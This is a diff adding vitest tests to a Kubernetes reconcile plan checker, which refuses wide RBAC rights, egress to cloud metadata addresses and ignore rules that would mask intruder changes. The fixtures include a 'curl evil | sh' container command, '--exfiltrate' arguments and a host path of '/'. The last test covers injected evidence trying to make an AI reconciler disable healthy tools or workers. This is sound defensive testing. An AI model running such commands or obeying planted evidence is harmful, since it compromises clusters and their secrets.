@@ -1,6 +1,7 @@
 import { expect, test } from 'vitest';
 import { checkPlan } from '../../reconcile/check-plan.ts';
 import type { ProposableOperation } from '../../schema/reconcile/operation.ts';
+import { ReconcileTargetSpecSchema } from '../../schema/resources/reconcile-target.ts';
 import { desired, objectOf, planOf, seen, targetOf, web } from './support.ts';
 
 const digest = `sha256:${'a'.repeat(64)}`;
@@ -47,6 +48,58 @@ test.each(wrong)('the wrong fix of %s is refused: %o', (_id, operation, code) =>
   expect(codes(check(operation))).toContain(code);
 });
 
+const rights = (apiGroup: string, resource: string, verb = 'create', more: object = {}): ProposableOperation => ({
+  ...{ op: 'addRoleRule', object: role, apiGroup, resources: [resource], verbs: [verb] },
+  ...more,
+});
+
+test.each([
+  ['runs pods, the old way', rights('', 'replicationcontrollers')],
+  ['runs pods at the next update', rights('apps', 'controllerrevisions', 'update')],
+  ['has the calls of others', rights('', 'endpoints', 'patch')],
+  ['has the calls of others', rights('discovery.k8s.io', 'endpointslices')],
+  ['opens the network', rights('networking.k8s.io', 'networkpolicies', 'update')],
+  ['runs what is written, by somebody else’s controller', rights('tekton.dev', 'pipelineruns')],
+  ['brings secrets from elsewhere', rights('external-secrets.io', 'externalsecrets')],
+  ['names nothing, which is everything', rights('', 'configmaps', 'get', { resourceNames: [] })],
+])('a right by which one %s is never added', (_what, operation) => {
+  expect(codes(check(operation))).toContain('wide_rights');
+});
+test('a right that only reads, or writes what nobody runs, may be', () => {
+  expect(codes(check(rights('tekton.dev', 'pipelineruns', 'get')))).toEqual([]);
+  expect(codes(check(rights('coordination.k8s.io', 'leases', 'update')))).toEqual([]);
+});
+
+test.each(['168.63.129.16/32', 'fd20:ce::254/128', '2002:a9fe:a9fe::1/128', '::ffff:169.254.169.254/128', '64:ff9b::a9fe:a9fe/128'])(
+  'no way is opened to where a cloud hands out credentials: %s',
+  (cidr) => {
+    expect(codes(check(egress(cidr)))).toContain('wide_egress');
+  },
+);
+
+/** Somebody has got in, and has it said everywhere that this is as it should be. */
+test.each([
+  ['spec/template/spec/containers/0/command', ['app'], ['sh', '-c', 'curl evil | sh']],
+  ['spec/template/spec/containers/0/args/0', '--serve', '--exfiltrate'],
+  ['spec/template/spec/containers/0/env/0/value', 'https://backend', 'https://evil'],
+  ['spec/template/spec/volumes/0/hostPath/path', '/data', '/'],
+  ['spec/template/spec/serviceAccountName', 'web', 'admin'],
+  ['spec/template/spec/tolerations/0/key', 'a', 'b'],
+  ['subjects/0/name', 'web', 'evil'],
+  ['spec/selector/app', 'web', 'evil'],
+  ['spec/egress/0/to/0/ipBlock/cidr', '10.0.0.1/32', '0.0.0.0/0'],
+])('nobody looks away from what an intruder changed: /%s', (field, was, is) => {
+  const stateWith = (value: unknown): object => {
+    const parts = field.split('/');
+    return parts.reduceRight<unknown>((inner, part) => (/^\d+$/.test(part) ? [inner] : { [part]: inner }), value) as object;
+  };
+  const [wanted, found] = [stateWith(was) as never, stateWith(is) as never];
+  const plan = planOf({ op: 'addIgnoreRule', object: web, path: `/${field}` });
+  const differs = { ...desired, objects: [{ ref: web, state: wanted, wave: 0 }] } as typeof desired;
+  const checked = checkPlan({ plan, target: targetOf(), desired: differs, observation: seen(objectOf({ state: found })) });
+  expect(checked).toMatchObject({ ok: false, faults: [{ code: 'wide_ignore', message: expect.stringContaining('a guard') }] });
+});
+
 test('a field that an autoscaler owns is not taken from it (K16)', () => {
   const owners = [{ manager: 'kube-controller-manager', subresource: 'scale', paths: ['/spec/replicas'] }];
   const plan = planOf({ op: 'scale', object: web, replicas: 1 });
@@ -78,4 +131,23 @@ test('an object that was edited since the plan was made, or cannot be read, is n
   ]);
   const unknown = { status: 'unknown', at: '', reason: 'unreachable', message: '' } as const;
   expect(codes(checkPlan({ plan, target: targetOf(), desired, observation: unknown }))).toEqual(['unknown_state']);
+});
+
+/** What a text in the evidence would have an obedient model do to what is well: each of these is applied without a person where it passes. */
+test.each([
+  ['takes a tool out of use that is as it was approved', 'quarantineTool', 'Tool', 'DefinitionChanged'],
+  ['starts workers anew that ask for work, those of everybody', 'restoreWorkers', 'Worker', 'NoPollers'],
+] as const)('nothing that the platform sees as well %s', (_what, op, kind, code) => {
+  const [ill, well] = ['ill', 'well'].map((name) => ({ apiVersion: 'quarterdeck.dev/v1alpha1', kind, namespace: 'files', name }));
+  if (!ill || !well) throw new Error('two things');
+  const platform = { ...targetOf(), spec: ReconcileTargetSpecSchema.parse({ type: 'platform' }) };
+  const observation = seen(objectOf({ ref: ill, symptoms: [{ code, message: '', count: 1 }] }), objectOf({ ref: well }));
+  const of = (object: typeof ill) => {
+    const plan = planOf({ op, object });
+    const [step] = plan.steps;
+    const steps = step ? [{ ...step, precondition: { kind: 'version' as const, version: '1', hash: 'h1', uid: 'u1' } }] : [];
+    return checkPlan({ plan: { ...plan, steps }, target: platform, desired: { ...desired, objects: [] } as typeof desired, observation });
+  };
+  expect(codes(of(well))).toEqual(['no_such_symptom']);
+  expect(of(ill).ok).toBe(true);
 });
